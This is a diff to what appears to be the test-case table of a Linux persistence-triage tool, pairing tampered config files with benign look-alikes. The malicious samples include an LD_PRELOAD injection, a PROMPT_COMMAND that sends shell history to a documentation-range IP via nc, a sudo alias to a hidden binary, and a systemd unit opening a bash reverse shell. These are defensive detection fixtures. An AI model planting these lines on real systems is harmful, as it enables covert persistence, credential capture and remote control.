@@ -649,6 +649,15 @@ CASES = {
                      {"/etc/pam.d/sshd": "auth required pam_vas3.so\n" + DEBIAN_PAM_SSHD}),
     "TRI-CONF-040": ({"/root/.bash_logout": "unset HISTFILE\n"},
                      {"/root/.bash_logout": DEBIAN_LOGOUT, "/root/.bashrc": DEBIAN_BASHRC}),
+    "TRI-CONF-041": ({"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_PRELOAD=/usr/lib/libsystem.so\n'},
+                     {"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_LIBRARY_PATH=/opt/oracle/lib\n'}),
+    "TRI-CONF-042": ({"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='history 1 | nc -q0 203.0.113.8 9001'\n"},
+                     {"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug "
+                      "\"$(whoami) [$$]: $(history 1 | sed \"s/^[ ]*[0-9]\\+[ ]*//\" ) [$RETRN_VAL]\"'\n"
+                      "PROMPT_COMMAND='history -a'\n"}),
+    "TRI-CONF-043": ({"/home/ubuntu/.bashrc": DEBIAN_BASHRC + "alias sudo='/home/ubuntu/.cache/s'\n"},
+                     {"/home/ubuntu/.bashrc": DEBIAN_BASHRC + "alias sudo='sudo '\nalias ssh='ssh -A'\n"
+                      "alias su='/usr/bin/su -l'\n"}),
     "TRI-CONF-050": ({"/etc/systemd/system/dbus-helper.service":
                       "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'\n"
                       "Restart=always\n[Install]\nWantedBy=multi-user.target\n"},
